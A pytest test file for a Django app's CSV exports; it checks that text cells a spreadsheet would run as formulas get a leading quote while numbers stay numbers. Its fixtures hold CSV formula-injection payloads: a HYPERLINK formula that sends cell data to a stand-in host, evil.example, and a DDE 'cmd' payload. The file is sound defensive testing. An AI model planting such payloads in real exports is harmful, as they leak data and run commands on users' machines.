"""CSV formula injection (OWASP): every CSV GapBridge serves writes a text cell that a spreadsheet would run
as a formula (=, +, -, @, tab, carriage return first) with a leading single quote; numbers stay numbers, a
negative amount included. Checked on the real endpoints: list CSVs, the open-data files, activities.csv."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client

from gapbridge.accounts.models import Role
from gapbridge.barriers import services as barriers
from gapbridge.countries.models import Economy
from gapbridge.needs import services as needs
from gapbridge.offers import services as offers
from gapbridge.pledges import services as pledges
from gapbridge.projects.models import Activity
from gapbridge.web import csvsafe
from tests import factories

from ..integration.test_projects_support import NL_203, run_import

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    body = response.getvalue() if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def _row(rows: list[dict[str, str]], column: str, value: str) -> dict[str, str]:
    (found,) = [r for r in rows if r[column] == value]
    return found


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Digital skills", "", "1-2 days", "'quoted", -5, Decimal("-12.50"), -0.5, None]
)
def test_other_text_and_every_number_stay_as_they_are(value: object) -> None:
    assert csvsafe.cell(value) == value


@pytest.mark.django_db
def test_offers_csv_and_open_data(client: Client) -> None:
    org = factories.organization("@Evil Corp", "XM-EVIL")
    offer = offers.create_offer(
        None,
        org,
        title=FORMULA,
        description="-rm everything",
        kind="training",
        focus_areas=["digital-skills"],
        budget_usd=Decimal("1500.50"),
        capacity=3,
    )
    offers.change_status(None, offer.pk, "published", "ready")

    listed = _row(_rows(client.get("/api/v1/offers?format=csv")), "id", str(offer.pk))
    assert (
        listed["title"] == "'" + FORMULA and listed["provider"] == "'@Evil Corp" and listed["capacity"] == "3"
    )

    published = _row(_rows(client.get("/api/v1/open-data/offers.csv")), "id", str(offer.pk))
    assert published["title"] == "'" + FORMULA
    assert published["description"] == "'-rm everything" and published["provider"] == "'@Evil Corp"
    assert published["budget_usd"] == "1500.50"


@pytest.mark.django_db
def test_needs_csv_and_open_data(client: Client) -> None:
    fp = factories.user("fp", Role.FOCAL_POINT, iso3="NER")
    need = needs.create_need(
        fp,
        Economy.objects.get(iso3="NER"),
        title="+cmd|' /C calc'!A0",
        description="@risk",
        focus_areas=["digital-skills"],
    )
    needs.change_status(fp, need.pk, "submitted", "ready")

    listed = _row(_rows(client.get("/api/v1/needs?format=csv")), "id", str(need.pk))
    assert listed["title"] == "'+cmd|' /C calc'!A0"
    published = _row(_rows(client.get("/api/v1/open-data/needs.csv")), "id", str(need.pk))
    assert published["title"] == "'+cmd|' /C calc'!A0" and published["description"] == "'@risk"


@pytest.mark.django_db
def test_barriers_csv_and_open_data(client: Client) -> None:
    sec = factories.user("sec", Role.SECRETARIAT)
    barrier = barriers.report_barrier(
        factories.user("reporter"),
        title=FORMULA,
        description="\tHidden formula",
        country="KEN",
        category="data_flows",
    )
    barriers.change_status(sec, barrier.pk, "verified", "confirmed")

    listed = _row(_rows(client.get("/api/v1/barriers?format=csv&country=KEN")), "id", str(barrier.pk))
    assert listed["title"] == "'" + FORMULA
    published = _row(_rows(client.get("/api/v1/open-data/barriers.csv")), "id", str(barrier.pk))
    assert published["title"] == "'" + FORMULA and published["description"] == "'\tHidden formula"


@pytest.mark.django_db
def test_pledges_csv(client: Client) -> None:
    sec = factories.user("sec", Role.SECRETARIAT)
    pledge = pledges.create_pledge(
        sec,
        provider=factories.organization("Open Donor", "XM-OD"),
        title=FORMULA,
        amount=Decimal(1000),
        currency="USD",
        period_start=dt.date(2024, 1, 1),
        period_end=dt.date(2024, 12, 31),
    )
    pledges.change_status(sec, pledge.pk, "announced", "launch")
    (row,) = _rows(client.get("/api/v1/pledges?format=csv"))
    assert row["title"] == "'" + FORMULA
    assert _row(_rows(client.get("/api/v1/open-data/pledges.csv")), "id", str(pledge.pk))["title"] == (
        "'" + FORMULA
    )


@pytest.mark.django_db
def test_activities_csv_quotes_titles_and_keeps_negative_money(client: Client) -> None:
    run_import([NL_203])
    activity = Activity.objects.order_by("pk").first()
    assert activity is not None
    # A decommitment makes IATI money negative: it must stay a number, not become text.
    Activity.objects.filter(pk=activity.pk).update(title=FORMULA, disbursements_usd=Decimal("-125.50"))

    response = client.get("/api/v1/activities.csv", {"fields": "id,title,disbursements_usd"})
    row = _row(_rows(response), "id", str(activity.pk))
    assert row["title"] == "'" + FORMULA and row["disbursements_usd"] == "-125.50"
